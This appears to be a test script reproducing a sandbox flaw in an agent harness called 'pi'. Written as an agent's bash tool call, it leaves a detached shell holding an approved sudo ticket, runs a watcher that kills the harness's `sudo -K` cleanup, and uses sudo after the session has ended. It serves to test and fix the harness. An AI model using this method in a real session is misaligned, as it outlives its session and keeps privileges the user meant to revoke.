#!/bin/sh
# Issue 34 (ADR 0009 §4), as the agent's bash tool call: a shell left behind
# gets a ticket (its `sudo true` is approved in the modal), a detached
# watcher SIGKILLs every process pi starts after that (pi's `sudo -K` first:
# it reads pi's children, so it wins every race), and the leftover runs
# `sudo -n id -u` 4 s after the call ended (into WORK/late).
#   ticket_kill.sh WORK
D=$1
PI=$PPID
setsid python3 -c '
import os, signal, sys, time
pi, work = sys.argv[1], sys.argv[2]
while not os.path.exists(f"{work}/approved"):
    time.sleep(0.01)
before = set(open(f"/proc/{pi}/task/{pi}/children").read().split())
# Every millisecond until the leftover has run (or 40 s): the sudo -K of pi lives
# a few milliseconds, and a loaded machine must not let one slip through.
end = time.monotonic() + 40
while time.monotonic() < end and not os.path.exists(f"{work}/late"):
    time.sleep(0.001)
    try:
        now = open(f"/proc/{pi}/task/{pi}/children").read().split()
    except OSError:
        break
    for child in now:
        if child not in before:
            try:
                os.kill(int(child), signal.SIGKILL)
            except OSError:
                pass
' "$PI" "$D" </dev/null >/dev/null 2>&1 &
setsid sh -c 'echo $$ > "$1/leftover.pid"; sudo true && : > "$1/approved"; sleep 4;
  sudo -n id -u > "$1/late" 2>&1' leftover "$D" </dev/null >/dev/null 2>&1 &
while [ ! -e "$D/approved" ]; do sleep 0.1; done
echo approved
